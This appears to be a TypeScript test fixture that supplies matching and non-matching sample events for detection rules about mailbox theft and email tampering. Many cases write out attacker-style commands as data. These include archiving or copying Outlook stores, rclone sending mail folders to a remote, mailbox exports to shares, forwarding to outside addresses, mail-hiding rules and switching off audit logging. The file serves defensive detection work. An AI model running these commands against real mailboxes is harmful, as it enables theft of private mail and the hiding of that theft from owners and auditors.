import {
  changeEvent,
  eventRecord,
  fileEvent,
  scriptBlock,
  started,
  type EventParts,
  type EventRecord,
} from '#test/support/event-builder.ts';

/** Events that a rule must find, each by itself, or must leave alone. */
export interface EventCases {
  readonly fires: Readonly<Record<string, EventRecord>>;
  readonly misses: Readonly<Record<string, EventRecord>>;
}

const pst = 'C:\\Users\\ann\\Documents\\Outlook Files\\ann.pst';
const outlook = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE';
const powershell = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const security = 'HKU\\S-1-5-21\\SOFTWARE\\Microsoft\\Office\\16.0\\Outlook\\Security\\';
const registry = (object: string, program: string, details = ''): EventRecord =>
  eventRecord('registry-change', {
    object,
    process: { name: program, commandLine: '' },
    facts: details === '' ? {} : { Details: details },
  });
const child = (name: string, parent: string): EventRecord =>
  eventRecord('process-start', { process: { name, commandLine: `"${name}"`, parent } });
const connected = (name: string, port: number, parts: EventParts = {}): EventRecord =>
  eventRecord('network-connection', {
    process: { name, commandLine: '' },
    peer: { host: 'smtp.outside.example', address: '198.51.100.7', port },
    ...parts,
  });
const request = (method: string, url: string, status: string): EventRecord =>
  eventRecord('page-visit', { object: url, outcome: status, facts: { 'cs-method': method, 'sc-status': status } });
const rule = (name: string, actions: readonly string[], conditions: readonly string[] = []): EventRecord =>
  changeEvent('rule-change', { name, actions, conditions, of: 'ann@firm.example' }, { operation: 'New-InboxRule' });
const permission = (
  what: 'mailbox-permission' | 'send-permission' | 'folder-permission',
  right: string,
  parts: EventParts = {},
): EventRecord =>
  changeEvent('permission-change', { what, name: right, of: 'ceo@firm.example', destinations: ['ben@firm.example'] }, parts);
const folder = (who: string, right: string, name = '\\Inbox'): EventRecord =>
  changeEvent('permission-change', { what: 'folder-permission', name: right, of: name, destinations: [who] }, { object: name });
const access = (parts: EventParts): EventRecord =>
  eventRecord('mail-access', { account: 'ann@firm.example', strength: 'OPENED', ...parts });

/** The cases by rule identifier. */
export const eventCases: Readonly<Record<string, EventCases>> = {
  'access.store.other-program': {
    fires: {
      'an archive program opens a store': fileEvent('file-open', pst, 'C:\\Tools\\7z.exe'),
      'a script opens a mailbox of the server': fileEvent('file-open', '/var/mail/ann', '/usr/bin/python3'),
    },
    misses: {
      'Outlook opens its store': fileEvent('file-open', pst, outlook),
      'a program opens another file': fileEvent('file-open', 'C:\\Users\\ann\\notes.pstx', 'C:\\Tools\\7z.exe'),
      'a program that is not named': eventRecord('file-open', { object: pst }),
    },
  },
  'access.store.windows-mail': {
    fires: {
      'from a folder of the user': fileEvent(
        'file-open',
        'C:\\Users\\ann\\AppData\\Local\\Comms\\UnistoreDB\\store.vol',
        'C:\\Users\\ann\\x.exe',
      ),
    },
    misses: {
      'an installed program': fileEvent(
        'file-open',
        'C:\\Users\\ann\\AppData\\Local\\Comms\\UnistoreDB\\store.vol',
        'C:\\Windows\\System32\\svchost.exe',
      ),
    },
  },
  'access.store.written-elsewhere': {
    fires: { 'to a folder for all': fileEvent('file-create', 'C:\\Users\\Public\\x.pst', outlook) },
    misses: {
      'to the folder of Outlook': fileEvent('file-create', 'C:\\Users\\ann\\AppData\\Local\\Microsoft\\Outlook\\ann.ost', outlook),
      'opened elsewhere': fileEvent('file-open', 'C:\\Users\\Public\\x.pst', outlook),
    },
  },
  'access.store.over-share': {
    fires: {
      'by the relative name': eventRecord('share-access', { object: '\\\\*\\C$', facts: { RelativeTargetName: 'Users\\ann\\ann.ost' } }),
    },
    misses: { 'another file': eventRecord('share-access', { object: '\\\\*\\C$', facts: { RelativeTargetName: 'Users\\ann\\ann.docx' } }) },
  },
  'access.store.appliance-archive': {
    fires: { 'three letters and three digits': fileEvent('file-create', '/mail/tmp/abc123.tar.gz', '/bin/tar') },
    misses: { 'more letters': fileEvent('file-create', '/mail/tmp/abcd123.tar.gz', '/bin/tar') },
  },
  'access.command.store-archived': {
    fires: {
      '7z packs a store': started(`7z.exe a -p out.7z "${pst}"`),
      'tar packs a Maildir': started('tar czf /tmp/m.tgz /srv/ann/Maildir/', '/usr/bin/tar'),
      'PowerShell packs a store': scriptBlock(`Compress-Archive -Path ${pst} -DestinationPath x.zip`),
    },
    misses: {
      'another file': started('7z.exe a out.7z notes.docx'),
      'a store named after': started('7z.exe a out.7z my.pstnotes.docx'),
      'a program with the name inside': started(`start.exe "${pst}"`),
    },
  },
  'access.command.store-copied': {
    fires: {
      'esentutl copies an open store': started(`esentutl.exe /y ${pst} /d C:\\x.pst`),
      'robocopy by ending': started('robocopy C:\\Users\\ann D:\\x *.pst /S'),
    },
    misses: { 'robocopy of documents': started('robocopy C:\\Users\\ann D:\\x *.docx /S') },
  },
  'access.command.store-sent': {
    fires: { 'rclone of a folder of mail': started('rclone copy /srv/ann/Library/Mail/ remote:x', 'rclone') },
    misses: { 'rclone of pictures': started('rclone copy /srv/ann/Pictures/ remote:x', 'rclone') },
  },
  'access.command.store-of-shadow-copy': {
    fires: {
      'copy of an open store': started('cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Users\\ann\\a.ost C:\\x.ost'),
    },
    misses: { 'a shadow copy alone': started('vssadmin create shadow /for=C:') },
  },
  'access.command.stores-searched': {
    fires: {
      'dir over a disk': started('cmd.exe /c dir /s /b C:\\*.pst'),
      'find over homes': started('find /home -name *.mbox', '/usr/bin/find'),
    },
    misses: { 'a search for documents': started('cmd.exe /c dir /s /b C:\\*.docx') },
  },
  'access.command.mail-folder-read': {
    fires: { 'grep through a spool': started('grep -r password /var/mail/', '/bin/grep') },
    misses: { 'grep through logs': started('grep -r password /var/log/', '/bin/grep') },
  },
  'access.command.mail-fetched': {
    fires: {
      'curl by IMAP': started('curl imaps://mail.firm.example/INBOX;UID=1 -u ann:x', '/usr/bin/curl'),
      imapsync: started('imapsync --host1 mail.firm.example', '/usr/bin/imapsync'),
    },
    misses: { 'curl of a page': started('curl https://mail.firm.example/', '/usr/bin/curl') },
  },
  'access.script.outlook-objects': {
    fires: { 'an object of Outlook': scriptBlock('$o = New-Object -ComObject Outlook.Application') },
    misses: { 'an object of Excel': scriptBlock('$o = New-Object -ComObject Excel.Application') },
  },
  'access.script.reads-mailbox': {
    fires: { 'the inbox': scriptBlock('$o = New-Object -Com Outlook.Application; $o.GetNamespace("MAPI").GetDefaultFolder(6)') },
    misses: { 'a new message only': scriptBlock('$o = New-Object -Com Outlook.Application; $o.CreateItem(0)') },
  },
  'access.script.exchange-web-services': {
    fires: {
      'finds items': scriptBlock('$s = New-Object Microsoft.Exchange.WebServices.Data.ExchangeService; $s.FindItems("Inbox", $view)'),
    },
    misses: { 'sends only': scriptBlock('$s = New-Object Microsoft.Exchange.WebServices.Data.ExchangeService; $m.Send()') },
  },
  'access.script.mailsniper': {
    fires: { 'a search of own mail': scriptBlock('Invoke-SelfSearch -Mailbox ann@firm.example') },
    misses: { 'another cmdlet': scriptBlock('Invoke-Command -ComputerName x') },
  },
  'access.script.windows-mail-store': {
    fires: { 'its folder': scriptBlock('Get-ChildItem $env:LOCALAPPDATA\\Comms\\Unistore\\data') },
    misses: { 'another folder': scriptBlock('Get-ChildItem $env:LOCALAPPDATA\\Comms') },
  },
  'access.script.apple-mail': {
    fires: { osascript: started(`osascript -e 'tell application "Mail" to get every message of inbox'`, '/usr/bin/osascript') },
    misses: { 'another program told': started(`osascript -e 'tell application "Finder" to empty trash'`, '/usr/bin/osascript') },
  },
  'access.script.ruler': {
    fires: { 'by the name of the workstation': eventRecord('sign-in', { account: 'ann', facts: { WorkstationName: 'RULER' } }) },
    misses: { 'a name that holds it': eventRecord('sign-in', { account: 'ann', facts: { WorkstationName: 'RULERS-PC' } }) },
  },
  'access.command.mailbox-export': {
    fires: {
      'to a share': scriptBlock('New-MailboxExportRequest -Mailbox ceo -FilePath \\\\srv\\x\\ceo.pst'),
      'by the audit log': eventRecord('mailbox-export', { operation: 'New-MailboxExportRequest', facts: { Mailbox: 'ceo' } }),
      'by the cmdlet log': eventRecord('other', {
        operation: 'New-MailboxExportRequest',
        facts: { Parameters: '-Mailbox "ceo" -FilePath "\\\\127.0.0.1\\c$\\inetpub\\x.aspx"' },
      }),
    },
    misses: { 'asks for the state': scriptBlock('Get-MailboxExportRequest -Mailbox ceo') },
  },
  'access.command.mailbox-export-removed': {
    fires: { 'removes it': scriptBlock('Remove-MailboxExportRequest -Identity x -Confirm $false') },
    misses: { 'makes one': scriptBlock('New-MailboxExportRequest -Mailbox ceo -FilePath x.pst') },
  },
  'access.command.exchange-cmdlets': {
    fires: { 'a search': scriptBlock('Search-Mailbox -Identity ceo -SearchQuery bank') },
    misses: { 'the own mailbox': scriptBlock('Get-MailboxStatistics ceo') },
  },
  'access.command.exchange-snap-in': {
    fires: { 'a script': started('powershell -c Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn', powershell) },
    misses: {
      'the installer': eventRecord('process-start', {
        process: {
          name: powershell,
          commandLine: 'powershell -c Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn',
          parent: 'C:\\Windows\\System32\\msiexec.exe',
        },
      }),
      'another snap-in': started('powershell -c Add-PSSnapin Quest.ActiveRoles', powershell),
    },
  },
  'access.command.forwarding-set': {
    fires: { 'a mailbox': scriptBlock('Set-Mailbox ceo -DeliverToMailboxAndForward $true -ForwardingSmtpAddress x@outside.example') },
    misses: { 'a quota': scriptBlock('Set-Mailbox ceo -ProhibitSendQuota 5GB') },
  },
  'access.command.inbox-rule-set': {
    fires: { 'that deletes': scriptBlock('New-InboxRule -Name x -DeleteMessage $true') },
    misses: { 'that flags': scriptBlock('New-InboxRule -Name x -MarkImportance High') },
  },
  'access.command.transport-agent': {
    fires: { installs: scriptBlock('Install-TransportAgent -Name x -AssemblyPath C:\\x.dll') },
    misses: { lists: scriptBlock('Get-TransportAgent') },
  },
  'access.command.compliance-export': {
    fires: { 'as PST': scriptBlock('New-ComplianceSearchAction -SearchName x -Export -Format FxStream -ExchangeArchiveFormat PerUserPst') },
    misses: { 'removes mail': scriptBlock('New-ComplianceSearchAction -SearchName x -Purge -PurgeType SoftDelete') },
  },
  'access.command.active-sync-device': {
    fires: { 'a device': scriptBlock('Set-CASMailbox ceo -ActiveSyncAllowedDeviceIDs 123') },
    misses: { 'a protocol': scriptBlock('Set-CASMailbox ceo -ImapEnabled $false') },
  },
  'access.command.audit-off': {
    fires: { 'of a mailbox': scriptBlock('Set-Mailbox ceo -AuditEnabled $false') },
    misses: { 'switched on': scriptBlock('Set-Mailbox ceo -AuditEnabled $true') },
  },
  'access.outlook.unsafe-rules': {
    fires: {
      'the value': registry(`${security}EnableUnsafeClientMailRules`, 'C:\\Windows\\System32\\reg.exe', 'DWORD (0x00000001)'),
      'the command': started(`reg add HKCU\\Software\\Microsoft\\Office\\16.0\\Outlook\\Security /v EnableUnsafeClientMailRules /d 1`),
    },
    misses: { 'switched off': registry(`${security}EnableUnsafeClientMailRules`, 'C:\\Windows\\System32\\reg.exe', 'DWORD (0x00000000)') },
  },
  'access.outlook.security-value': {
    fires: { 'by another program': registry(`${security}Level`, 'C:\\Windows\\System32\\reg.exe', 'DWORD (0x00000001)') },
    misses: {
      'by Outlook': registry(`${security}Level`, outlook, 'DWORD (0x00000001)'),
      'another key': registry('HKU\\S-1\\SOFTWARE\\Microsoft\\Office\\16.0\\Outlook\\Preferences\\x', 'reg.exe'),
    },
  },
  'access.outlook.home-page': {
    fires: {
      'of the inbox': registry(
        'HKU\\S-1\\Software\\Microsoft\\Office\\16.0\\Outlook\\WebView\\Inbox\\URL',
        'reg.exe',
        'http://outside.example/x.html',
      ),
    },
    misses: {
      'another value': registry('HKU\\S-1\\Software\\Microsoft\\Office\\16.0\\Outlook\\WebView\\Inbox\\Security', 'reg.exe', 'yes'),
    },
  },
  'access.outlook.macros-on-start': {
    fires: {
      'switched on': registry(
        'HKU\\S-1\\Software\\Microsoft\\Office\\16.0\\Outlook\\LoadMacroProviderOnBoot',
        'reg.exe',
        'DWORD (0x00000001)',
      ),
    },
    misses: {
      'switched off': registry(
        'HKU\\S-1\\Software\\Microsoft\\Office\\16.0\\Outlook\\LoadMacroProviderOnBoot',
        'reg.exe',
        'DWORD (0x00000000)',
      ),
    },
  },
  'access.outlook.macro-file': {
    fires: {
      'by another program': fileEvent('file-create', 'C:\\Users\\ann\\AppData\\Roaming\\Microsoft\\Outlook\\VbaProject.OTM', powershell),
      'by Outlook, lowered': fileEvent('file-create', 'C:\\Users\\ann\\AppData\\Roaming\\Microsoft\\Outlook\\VbaProject.OTM', outlook),
    },
    misses: { 'another file': fileEvent('file-create', 'C:\\Users\\ann\\AppData\\Roaming\\Microsoft\\Outlook\\Outlook.srs', powershell) },
  },
  'access.outlook.form': {
    fires: { 'a form': fileEvent('file-create', 'C:\\Users\\ann\\AppData\\Local\\Microsoft\\FORMS\\IPM.Note.x\\f.dat', outlook) },
    misses: { 'the cache of forms': fileEvent('file-create', 'C:\\Users\\ann\\AppData\\Local\\Microsoft\\FORMS\\frmdata.dat', outlook) },
  },
  'access.outlook.macro-library': {
    fires: {
      loaded: eventRecord('image-load', {
        object: 'C:\\Program Files\\Microsoft Office\\Office16\\OUTLVBA.DLL',
        process: { name: outlook, commandLine: '' },
      }),
    },
    misses: {
      'another library': eventRecord('image-load', {
        object: 'C:\\Windows\\System32\\mso.dll',
        process: { name: outlook, commandLine: '' },
      }),
    },
  },
  'access.outlook.child-process': {
    fires: { 'a shell': child(powershell, outlook) },
    misses: {
      'a browser': child('C:\\Program Files\\Mozilla Firefox\\firefox.exe', outlook),
      'a shell of the desktop': child(powershell, 'C:\\Windows\\explorer.exe'),
    },
  },
  'access.outlook.child-from-share': {
    fires: { 'from a share': child('\\\\198.51.100.7\\x\\y.exe', outlook) },
    misses: { 'a long path': child('\\\\?\\C:\\x\\y.exe', outlook), 'from the disk': child('C:\\x\\y.exe', outlook) },
  },
  'access.outlook.automated': {
    fires: { embedded: started(`"${outlook}" -Embedding`, outlook) },
    misses: { 'by its user': started(`"${outlook}"`, outlook) },
  },
  'access.outlook.profile-read': {
    fires: {
      'by another program': fileEvent(
        'file-open',
        '\\REGISTRY\\USER\\S-1\\Software\\Microsoft\\Office\\16.0\\Outlook\\Profiles\\Outlook\\9375CFF0413111d3B88A00104B2A6676\\00000002',
        'C:\\x\\steal.exe',
      ),
    },
    misses: {
      'by Outlook': fileEvent(
        'file-open',
        '\\REGISTRY\\USER\\S-1\\Outlook\\Profiles\\Outlook\\9375CFF0413111d3B88A00104B2A6676\\00000002',
        outlook,
      ),
    },
  },
  'access.network.sends-mail': {
    fires: { 'a shell': connected(powershell, 587) },
    misses: {
      'a mail program': connected(outlook, 587),
      'a page': connected(powershell, 443),
      'a connection that came in': connected('C:\\x\\server.exe', 25, { facts: { Initiated: 'false' } }),
    },
  },
  'access.network.fetches-mail': {
    fires: { 'a script': connected('/usr/bin/python3', 993) },
    misses: { 'a mail program': connected('/usr/lib/thunderbird/thunderbird-bin', 993) },
  },
  'access.server.proxy-token': {
    fires: {
      'fails as the attack does': request('POST', '/ecp/ann@firm.example/RulesEditor/InboxRules.svc/NewObject', '500'),
      'with a token': request('POST', '/ecp/ann@firm.example/RulesEditor/InboxRules.svc/NewObject?SecurityToken=x', '200'),
    },
    misses: {
      'the page of the owner': request('POST', '/ecp/RulesEditor/InboxRules.svc/NewObject', '200'),
      'another request that fails': request('POST', '/ecp/default.aspx', '500'),
    },
  },
  'access.server.forwards': {
    fires: {
      'by the change': changeEvent(
        'mail-forward',
        { what: 'alias', of: 'ann@firm.example', destinations: ['x@outside.example'] },
        { account: 'ann@firm.example' },
      ),
      'by the values': eventRecord('mail-forward', { account: 'ann@firm.example', facts: { to: 'x@outside.example' } }),
    },
    misses: { 'a delivery': eventRecord('mail-delivery', { account: 'ann@firm.example', facts: { to: 'ann@firm.example' } }) },
  },
  'access.file.forward-file-changed': {
    fires: { '.forward': fileEvent('file-write', '/srv/ann/.forward', '/bin/bash') },
    misses: { 'a file that is only named alike': fileEvent('file-write', '/srv/ann/x.forward.txt', '/bin/bash') },
  },
  'access.file.rule-file-changed': {
    fires: {
      'filters of Thunderbird': fileEvent('file-write', '/srv/ann/.thunderbird/x/ImapMail/h/msgFilterRules.dat', '/usr/bin/python3'),
    },
    misses: {
      'by Thunderbird': fileEvent(
        'file-write',
        '/srv/ann/.thunderbird/x/ImapMail/h/msgFilterRules.dat',
        '/usr/lib/thunderbird/thunderbird-bin',
      ),
    },
  },
  'access.host.log-cleared': {
    fires: { cleared: eventRecord('log-cleared', { operation: '1102' }) },
    misses: { 'a service that stops': eventRecord('service-change', { operation: '7036' }) },
  },
  'access.change.rule-hides': {
    fires: {
      deletes: rule('x', ['delete'], ['From y']),
      moves: rule('x', ['move Projects'], ['From y']),
    },
    misses: {
      'forwards only': rule('x', ['forward']),
      removed: changeEvent('rule-change', { state: 'removed', actions: ['delete'] }),
    },
  },
  'access.change.rule-keeps-from-owner': {
    fires: {
      'mail about invoices is deleted': rule('x', ['delete'], ['SubjectOrBodyContainsWords invoice;bank']),
      'mail about phishing goes to the feeds': rule('x', ['move RSS Feeds', 'mark-read'], ['SubjectContainsWords phishing']),
      'all mail': rule('x', ['delete'], ['WithinSizeRangeMinimum 1']),
    },
    misses: {
      'mail about invoices goes to a folder of its own': rule('x', ['move Invoices'], ['SubjectContainsWords invoice']),
      'a word within another': rule('x', ['delete'], ['SubjectContainsWords teacher']),
      'large mail': rule('x', ['delete'], ['WithinSizeRangeMinimum: 500 KB (512,000 bytes)']),
    },
  },
  'access.change.rule-marks-and-moves': {
    fires: { 'to the history': rule('x', ['move Historique des conversations', 'mark-read']) },
    misses: { 'moves only': rule('x', ['move Conversation History']), 'a folder of its own': rule('x', ['move Projects', 'mark-read']) },
  },
  'access.change.rule-odd-name': {
    fires: { 'a dot': rule('.', ['delete']) },
    misses: { 'a letter': rule('ж', ['delete']), 'no name': rule('', ['delete']) },
  },
  'access.change.transport-rule-set': {
    fires: { set: changeEvent('transport-change', { what: 'transport-rule', name: 'Disclaimer' }) },
    misses: { removed: changeEvent('transport-change', { what: 'transport-rule', name: 'Disclaimer', state: 'removed' }) },
  },
  'access.change.mail-route': {
    fires: {
      'a journal rule': changeEvent('transport-change', { what: 'journal-rule', name: 'j', destinations: ['x@outside.example'] }),
      'a setting of Google': eventRecord('setting-change', {
        operation: 'CREATE_GMAIL_SETTING',
        facts: { SETTING_NAME: 'EMAIL_ROUTE' },
      }),
    },
    misses: {
      'another setting of Google': eventRecord('setting-change', {
        operation: 'CHANGE_GMAIL_SETTING',
        facts: { SETTING_NAME: 'IMAP_ACCESS' },
      }),
      'a connector removed': changeEvent('transport-change', { what: 'connector', state: 'removed' }),
    },
  },
  'access.change.mailbox-permission': {
    fires: { 'full access': permission('mailbox-permission', 'FullAccess') },
    misses: {
      'by the service itself': permission('mailbox-permission', 'FullAccess', {
        actor: 'NT AUTHORITY\\SYSTEM (Microsoft.Exchange.ServiceHost)',
      }),
      'another right': permission('mailbox-permission', 'DeleteItem'),
    },
  },
  'access.change.send-permission': {
    fires: { 'send as': permission('send-permission', 'SendAs') },
    misses: { 'to the mailbox': permission('mailbox-permission', 'FullAccess') },
  },
  'access.change.folder-shared-with-all': {
    fires: { 'the inbox to everyone': folder('Everyone', 'ReadAny, FolderVisible') },
    misses: {
      'the calendar': folder('Default', 'Reviewer', 'ann@firm.example:\\Calendar'),
      'to one': folder('ben@firm.example', 'ReadAny'),
      'only to see it': folder('Everyone', 'FolderVisible'),
    },
  },
  'access.change.folder-permission': {
    fires: { 'to one': folder('ben@firm.example', 'Reviewer') },
    misses: { 'only to see it': folder('ben@firm.example', 'FolderVisible') },
  },
  'access.change.application-reads-mail': {
    fires: {
      consent: eventRecord('consent', {
        object: 'Mail Helper',
        facts: { 'ConsentAction.Permissions': 'Scope: openid Mail.Read offline_access' },
      }),
      'a grant, whose target is the service and not the application': eventRecord('consent', {
        object: 'Microsoft Graph',
        facts: {
          'DelegatedPermissionGrant.Scope': 'openid Mail.Read',
          'ServicePrincipal.Name': '',
          'ServicePrincipal.ObjectID': '7c2b7975',
        },
      }),
      'for all mailboxes': changeEvent(
        'permission-change',
        { what: 'application-permission' },
        { facts: { EntitlementId: '810c84a8-4a9e-49e6-bf7d-12d183f40d01' } },
      ),
    },
    misses: {
      'a sign-in only': eventRecord('consent', { object: 'x', facts: { 'ConsentAction.Permissions': 'Scope: openid profile email' } }),
    },
  },
  'access.change.mail-role': {
    fires: {
      'by a script': scriptBlock('New-ManagementRoleAssignment -Role "Mailbox Import Export" -User ben'),
      'by the audit log': changeEvent(
        'role-change',
        { what: 'role', name: 'ApplicationImpersonation', destinations: ['ben'] },
        { operation: 'New-ManagementRoleAssignment' },
      ),
    },
    misses: { 'another role': scriptBlock('New-ManagementRoleAssignment -Role "MyBaseOptions" -User ben') },
  },
  'access.change.administrator': {
    fires: {
      'for everything': changeEvent('role-change', { what: 'role', name: 'Global Administrator', destinations: ['ben@firm.example'] }),
    },
    misses: {
      'of printers': changeEvent('role-change', { what: 'role', name: 'Printer Administrator', destinations: ['ben@firm.example'] }),
    },
  },
  'access.change.audit-bypass': {
    fires: {
      'left out': changeEvent(
        'audit-change',
        { what: 'audit', of: 'svc', state: 'disabled' },
        { operation: 'Set-MailboxAuditBypassAssociation' },
      ),
    },
    misses: {
      'taken back': changeEvent(
        'audit-change',
        { what: 'audit', of: 'svc', state: 'enabled' },
        { operation: 'Set-MailboxAuditBypassAssociation' },
      ),
    },
  },
  'access.change.audit-off': {
    fires: {
      'as a change': changeEvent('audit-change', { what: 'audit', of: 'ceo', state: 'disabled' }, { operation: 'Set-Mailbox' }),
      'as a value': changeEvent(
        'audit-change',
        { what: 'audit', state: 'changed' },
        { operation: 'Set-AdminAuditLogConfig', facts: { UnifiedAuditLogIngestionEnabled: 'False' } },
      ),
    },
    misses: { 'switched on': changeEvent('audit-change', { what: 'audit', state: 'enabled' }, { facts: { AuditEnabled: 'True' } }) },
  },
  'access.change.audit-licence': {
    fires: {
      'taken away': eventRecord('license-change', { facts: { NewValue: '[{"DisabledPlans":["M365_ADVANCED_AUDITING"],"SkuName":"E5"}]' } }),
    },
    misses: {
      'another plan': eventRecord('license-change', { facts: { NewValue: '[{"DisabledPlans":["YAMMER"],"SkuName":"E5"}]' } }),
      given: eventRecord('license-change', { facts: { NewValue: '["M365_ADVANCED_AUDITING"] DisabledPlans=[]' } }),
    },
  },
  'access.alert.forwarding': {
    fires: {
      'a risk event': eventRecord('alert', { facts: { riskEventType: 'mcasSuspiciousInboxManipulationRules' } }),
      'a mass of mail, lowered': eventRecord('alert', { object: 'Email sending limit exceeded' }),
    },
    misses: { 'another risk event': eventRecord('alert', { facts: { riskEventType: 'unfamiliarFeatures' } }) },
  },
  'access.alert.export': {
    fires: { started: eventRecord('alert', { object: 'eDiscovery search started or exported' }) },
    misses: { 'another alert': eventRecord('alert', { object: 'Elevation of Exchange admin privilege' }) },
  },
  'access.cloud.not-owner': {
    fires: {
      'by the kind of sign-in': access({ actor: 'ben@firm.example', facts: { LogonType: '2' } }),
      'by another address': access({ actor: 'ben@firm.example', facts: { MailboxOwnerUPN: 'Ann@firm.example' } }),
    },
    misses: {
      'the owner': access({ actor: 'ann@firm.example', facts: { LogonType: '0', MailboxOwnerUPN: 'Ann@firm.example' } }),
      'the service itself': access({ actor: 'NT AUTHORITY\\SYSTEM', facts: { LogonType: '1' } }),
      'a sign-in to a machine': eventRecord('sign-in', { account: 'ann', facts: { LogonType: '2' } }),
      'that failed': access({ actor: 'ben@firm.example', strength: 'ATTEMPTED', facts: { LogonType: '2' } }),
    },
  },
  'access.cloud.folder-synchronised': {
    fires: {
      'by the kind of access': access({ facts: { MailAccessType: 'Sync' } }),
      'by its action': eventRecord('mail-sync', { account: 'ann@firm.example' }),
    },
    misses: { 'single messages': access({ facts: { MailAccessType: 'Bind' } }) },
  },
  'access.cloud.through-web-services': {
    fires: { 'by its beginning': access({ client: 'Client=WebServices;ExchangeWebServices/1.0' }) },
    misses: { 'by the web page': access({ client: 'Client=OWA;Action=ViaProxy' }) },
  },
  'access.cloud.through-graph': {
    fires: {
      'by its identifier': access({ facts: { AppId: '00000003-0000-0000-c000-000000000000' } }),
      'by its client': access({ client: 'Client=REST;;' }),
    },
    misses: {
      'by the web page': access({ client: 'Client=OWA;Action=ViaProxy', facts: { AppId: '00000002-0000-0ff1-ce00-000000000000' } }),
    },
  },
  'access.cloud.by-security-staff': {
    fires: { 'by name': access({ operation: 'AdminMailAccess' }) },
    misses: { 'an ordinary access': access({ operation: 'MailItemsAccessed' }) },
  },
  'access.cloud.by-management-shell': {
    fires: {
      'a sign-in': eventRecord('sign-in', {
        account: 'ann@firm.example',
        client: 'Client=Microsoft.Exchange.Powershell; Microsoft WinRM Client',
      }),
    },
    misses: { 'the web page': eventRecord('sign-in', { account: 'ann@firm.example', client: 'Client=OWA' }) },
  },
  'access.cloud.search-started': {
    fires: { created: eventRecord('content-search', { operation: 'SearchCreated', object: 'case 7' }) },
    misses: { exported: eventRecord('content-search', { operation: 'SearchExported', object: 'case 7' }) },
  },
  'access.cloud.exported': {
    fires: {
      'a search': eventRecord('content-search', { operation: 'SearchExported', object: 'case 7' }),
      'a mailbox': eventRecord('mailbox-export', { operation: 'New-MailboxExportRequest', object: 'ceo' }),
    },
    misses: { 'made only': eventRecord('content-search', { operation: 'SearchCreated', object: 'case 7' }) },
  },
  'access.cloud.notice-deleted': {
    fires: {
      'by the subject': eventRecord('mail-delete', { operation: 'HardDelete', facts: { Subject: 'Your new sign-in from Lagos' } }),
      'by the object': eventRecord('mail-move', { object: { kind: 'message', name: 'Microsoft account security alert' } }),
    },
    misses: { 'another subject': eventRecord('mail-delete', { operation: 'HardDelete', facts: { Subject: 'Lunch' } }) },
  },
  'access.cloud.legacy-sign-in': {
    fires: { 'by IMAP': eventRecord('sign-in', { strength: 'LOGGED ON', account: 'ann@firm.example', facts: { ClientAppUsed: 'IMAP4' } }) },
    misses: {
      'by a browser': eventRecord('sign-in', { strength: 'LOGGED ON', account: 'ann@firm.example', facts: { ClientAppUsed: 'Browser' } }),
      'that failed': eventRecord('sign-in', { strength: 'ATTEMPTED', account: 'ann@firm.example', facts: { ClientAppUsed: 'IMAP4' } }),
    },
  },
};
